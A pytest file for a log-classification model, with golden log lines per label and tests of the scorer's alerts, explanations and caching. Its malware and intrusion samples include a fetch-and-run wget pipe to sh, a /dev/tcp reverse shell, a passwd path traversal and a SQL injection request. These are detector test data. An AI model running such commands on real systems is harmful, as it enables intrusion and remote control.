# ruff: noqa: E501
"""The shipped log model: it loads, classifies hand-written golden lines of every label, and the
full scorer explains, caches and enriches like the stream expects."""

from __future__ import annotations

from pathlib import Path

import pytest

from classifiers.logs.evaluation import category_scores, read_hand_labelled
from classifiers.logs.model import SHIPPED_LOG_MODEL, load_log_model
from classifiers.logs.scoring import LogScorer, merge_fields, model_text
from classifiers.logs.taxonomy import LABELS
from classifiers.parsing import ParseFailure, ParseOptions, parse

#: Hand-written lines (not produced by the generator) in the formats the parser reads.
GOLDEN: dict[str, list[str]] = {
    "benign": [
        "Mar  3 09:12:44 web-07 sshd[4410]: Accepted publickey for maria from 10.20.1.5 port 50122 ssh2",
        '10.4.4.20 - - [03/Mar/2024:09:12:45 +0000] "GET /docs/install.html HTTP/1.1" 200 7311 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/123.0"',
        "Mar  3 09:15:01 web-07 CRON[5123]: (root) CMD (/usr/lib/php/sessionclean)",
    ],
    "auth_failure": [
        "Mar  3 09:20:11 bastion-2 sshd[7711]: Failed password for root from 45.141.84.10 port 41888 ssh2",
        "Mar  3 09:20:14 bastion-2 sshd[7713]: Failed password for invalid user oracle from 45.141.84.10 port 41902 ssh2",
        "Mar  3 09:20:19 bastion-2 sshd[7715]: Invalid user ftpuser from 45.141.84.10 port 41950",
    ],
    "privilege_escalation": [
        "Mar  3 10:01:02 app-3 sudo: intern : user NOT in sudoers ; TTY=pts/3 ; PWD=/home/intern ; USER=root ; COMMAND=/bin/su",
        "Mar  3 10:01:09 app-3 su[8812]: FAILED SU (to root) intern on pts/3",
    ],
    "account_change": [
        "Mar  3 11:30:00 app-3 useradd[9120]: new user: name=svc_backup, UID=1050, GID=1050, home=/home/svc_backup, shell=/bin/bash, from=/dev/pts/1",
        "Mar  3 11:30:05 app-3 usermod[9125]: add 'svc_backup' to group 'wheel'",
    ],
    "intrusion_attempt": [
        '185.220.101.7 - - [03/Mar/2024:12:00:01 +0000] "GET /cgi-bin/../../../../etc/passwd HTTP/1.1" 400 0 "-" "Nikto/2.5.0"',
        '185.220.101.7 - - [03/Mar/2024:12:00:02 +0000] "GET /products?id=7\'%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1" 500 0 "-" "sqlmap/1.8"',
        "Mar  3 12:00:09 gw-1 sshd[9901]: reverse mapping checking getaddrinfo for 7.101.220.185.example.org [185.220.101.7] failed - POSSIBLE BREAK-IN ATTEMPT!",
    ],
    "malware": [
        "Mar  3 13:13:13 app-3 CRON[9999]: (www-data) CMD (wget -qO- http://91.92.250.3/k.sh | sh)",
        "Mar  3 13:14:00 app-3 sudo: tomcat : TTY=unknown ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/91.92.250.3/4444 0>&1",
    ],
    "hardware_fault": [
        "- 1118536327 2005.06.11 R11-M0-N3-C:J02-U01 2005-06-11-17.32.07.581048 R11-M0-N3-C:J02-U01 RAS KERNEL FATAL data TLB error interrupt",
        "Mar  3 14:00:00 db-9 kernel: [88213.220011] mce: [Hardware Error]: CPU 7: Machine Check: 0 Bank 4: b200000000070f0f",
    ],
    "storage": [
        "Mar  3 15:00:00 db-9 kernel: [90011.120044] blk_update_request: I/O error, dev sdc, sector 88120320",
        "Mar  3 15:00:02 db-9 kernel: [90013.000001] EXT4-fs (sdc1): Remounting filesystem read-only",
    ],
    "network": [
        "Mar  3 16:00:00 edge-4 kernel: [10002.554433] igb 0000:03:00.0 eth2: NIC Link is Down",
        "2024-03-03 16:00:05,112 ERROR [worker-2] com.acme.orders.OrderService: java.net.ConnectException: Connection refused (Connection refused) to 10.8.0.12:5432",
    ],
    "service_failure": [
        "Mar  3 17:00:00 app-3 kernel: [12001.000222] Out of memory: Killed process 18812 (java) total-vm:9123456kB",
        "Mar  3 17:00:03 app-3 systemd[1]: payments.service: Main process exited, code=killed, status=9/KILL",
    ],
}
HAND_LABELLED = Path(__file__).parent / "hand_labelled.tsv"

pytestmark = pytest.mark.skipif(
    not (SHIPPED_LOG_MODEL / "metadata.json").exists(), reason="no shipped log model yet"
)


@pytest.fixture(scope="module")
def model():  # type: ignore[no-untyped-def]
    return load_log_model()


def _events(lines: list[str]) -> list[dict]:
    options = ParseOptions()
    events = [parse(line.encode(), options) for line in lines]
    assert not any(isinstance(e, ParseFailure) for e in events)
    return events  # type: ignore[return-value]


#: Golden lines the shipped model gets wrong, kept visible (strict xfail) rather than removed.
CASES = [
    pytest.param(label, line, id=f"{label}-{i}")
    for label in LABELS
    for i, line in enumerate(GOLDEN[label])
]


def test_golden_cases_cover_every_label() -> None:
    assert set(GOLDEN) == set(LABELS)
    assert all(len(lines) >= 2 for lines in GOLDEN.values())


@pytest.mark.parametrize(("label", "line"), CASES)
def test_golden_line(model, label: str, line: str) -> None:  # type: ignore[no-untyped-def]
    probabilities = model.predict_proba([model_text(e) for e in _events([line])])
    assert model.label_names[int(probabilities.argmax(1)[0])] == label


def test_scorer_alerts_explains_and_enriches(model) -> None:  # type: ignore[no-untyped-def]
    scorer = LogScorer(model)
    line = GOLDEN["auth_failure"][0]
    [score] = scorer.score_batch(_events([line]))
    assert score.label == "auth_failure" and score.alert
    assert score.severity in (47, 73, 99)
    assert {"Failed", "password"} & set(score.explanation)
    assert len(score.top3) == 3 and score.top3[0]["label"] == "auth_failure"
    fields = score.ecs_fields()
    assert fields["event"]["kind"] == "alert"
    assert fields["event"]["category"] == ["authentication"]
    assert fields["logwarden"]["model"]["name"] == model.name
    event = merge_fields(_events([line])[0], fields)
    assert event["logwarden"]["parse"]["status"] == "parsed"
    assert event["logwarden"]["template"]["id"] == score.template.id


def test_lines_of_one_template_share_an_explanation_without_the_result_cache(model) -> None:  # type: ignore[no-untyped-def]
    scorer = LogScorer(model, cache_size=0)
    users = ["root", "admin", "oracle", "backup", "deploy", "guest"]
    line = "Mar  3 09:20:11 bastion-2 sshd[7711]: Failed password for {} from 45.141.84.10 port 41888 ssh2"
    scores = scorer.score_batch(_events([line.format(user) for user in users]))
    assert all(s.label == "auth_failure" and s.alert for s in scores)
    assert scorer.explanations.hits >= 1 and scorer.explanations.misses < len(users)
    assert {"Failed", "password"} & set(scores[-1].explanation)
    assert not set(users[2:]) & {token for s in scores[2:] for token in s.explanation}


def test_benign_lines_do_not_alert_and_repeats_hit_the_cache(model) -> None:  # type: ignore[no-untyped-def]
    scorer = LogScorer(model)
    lines = [GOLDEN["benign"][0]] * 5 + [GOLDEN["benign"][2]] * 5
    scores = scorer.score_batch(_events(lines))
    assert not any(s.alert for s in scores)
    assert scores[0].novelty == 1.0 and scores[4].novelty < 0.5
    assert all(s.explanation == [] for s in scores)
    scorer.score_batch(_events(lines))
    assert scorer.cache.hit_rate > 0.8


def test_hand_labelled_real_lines(model) -> None:  # type: ignore[no-untyped-def]
    from classifiers.logs.dataset import texts_of

    hand = read_hand_labelled(HAND_LABELLED)
    assert len(hand) >= 200
    scores = category_scores(model, texts_of(hand), [h.label for h in hand])
    assert scores["macro_f1"] >= 0.90, scores
